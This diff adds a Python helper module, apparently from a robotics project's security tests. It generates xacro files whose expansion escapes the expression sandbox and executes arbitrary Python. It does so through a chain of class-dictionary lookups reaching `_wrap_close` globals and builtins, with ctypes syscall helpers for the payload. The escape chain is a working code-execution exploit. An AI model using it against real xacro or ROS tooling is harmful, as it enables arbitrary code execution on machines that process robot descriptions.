@@ -1,0 +1,87 @@
+# Copyright 2026 The robot_description_tools developers
+#
+# Licensed under the Apache License, Version 2.0 (the "License");
+# you may not use this file except in compliance with the License.
+# You may obtain a copy of the License at
+#
+#     http://www.apache.org/licenses/LICENSE-2.0
+#
+# Unless required by applicable law or agreed to in writing, software
+# distributed under the License is distributed on an "AS IS" BASIS,
+# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+# See the License for the specific language governing permissions and
+# limitations under the License.
+
+"""
+Attacks on the process that expands xacro, from the inside: any Python text, run by a xacro file.
+
+The way in is one that no filter of names sees: class dictionaries, whose keys are strings.
+
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+HEAD = '<robot name="r" xmlns:xacro="http://www.ros.org/wiki/xacro">'
+_ESCAPE = """\
+<xacro:property name="T" value="${python.vars(python.type)}"/>
+<xacro:property name="subs" value="${T['__subclasses__'](python.type.mro(int)[-1])}"/>
+<xacro:property name="wrap" value="${[c for c in subs if '_wrap_close' in str(c)][0]}"/>
+<xacro:property name="fn" value="${python.vars(wrap)['__init__']}"/>
+<xacro:property name="gd" value="${python.vars(python.type(fn))['__globals__']}"/>
+<xacro:property name="os" value="${python.vars(python.type(gd))['__get__'](gd, fn)}"/>
+<xacro:property name="b" value="${os['__builtins__']}"/>
+<xacro:property name="code" value="${b['open']('attack.py').read()}"/>
+<link name="${[b['exec'](code, n) or n['told'] for n in [b['dict']([('__builtins__', b)])]][0]}"/>
+"""
+# What the link is called: what the text has put into `got`, or how it failed.
+_FRAME = """\
+import ctypes
+import mmap
+import os
+import signal
+import socket
+import sys
+HERE = {here!r}
+OUTSIDE = {outside!r}
+def system_call(number, *words):
+    libc = ctypes.CDLL(None, use_errno=True)
+    ctypes.set_errno(0)
+    result = libc.syscall(number, *map(ctypes.c_long, words))
+    if result < 0:
+        error = ctypes.get_errno()
+        raise OSError(error, os.strerror(error))
+    return result
+def stop_clocks():
+    for clock in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
+        signal.setitimer(clock, 0)
+try:
+    got = 'nothing'
+    exec({attack!r})
+    told = 'GOT ' + str(got)
+except BaseException as error:
+    told = 'FAILED ' + type(error).__name__ + ' ' + str(error)
+"""
+
+
+def write_attack(folder: Path, attack: str, outside: Path) -> Path:
+    """
+    Write a xacro file whose expansion runs a Python text; return it.
+
+    Parameters
+    ----------
+    folder : Path
+        Where the file lies, and from where it has to be expanded.
+    attack : str
+        The text; it may set ``got``, and knows the folder as ``HERE``.
+    outside : Path
+        What it knows as ``OUTSIDE``: a file that it should not read.
+
+    """
+    text = _FRAME.format(here=str(folder), outside=str(outside), attack=attack)
+    (folder / 'attack.py').write_text(text, encoding='utf-8')
+    file = folder / 'attack.xacro'
+    escape = _ESCAPE.replace("'attack.py'", f"'{folder / 'attack.py'}'")
+    file.write_text(f'{HEAD}\n{escape}</robot>\n', encoding='utf-8')
+    return file
